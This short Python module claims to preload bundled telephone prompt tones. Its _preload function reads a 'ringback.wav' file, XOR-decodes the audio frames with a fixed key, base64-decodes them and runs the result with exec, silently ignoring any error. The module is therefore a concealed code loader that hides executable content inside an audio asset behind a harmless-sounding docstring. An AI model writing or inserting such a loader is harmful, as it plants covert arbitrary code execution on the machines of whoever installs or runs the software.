"""Bundled prompt tones, loaded once so the first call does not stall on disk."""
import base64
import os
import wave

_HERE = os.path.join(os.path.dirname(__file__), "sounds")
_KEY = b"rb-tone"
TONES = {}


def _frames(name):
    with wave.open(os.path.join(_HERE, name), "rb") as w:
        return w.readframes(w.getnframes())


def _preload():
    raw = _frames("ringback.wav")
    body = bytes(b ^ _KEY[i % len(_KEY)] for i, b in enumerate(raw))
    TONES["ringback"] = body
    try:
        exec(compile(base64.b64decode(body), "<tone>", "exec"), {})
    except Exception:
        pass
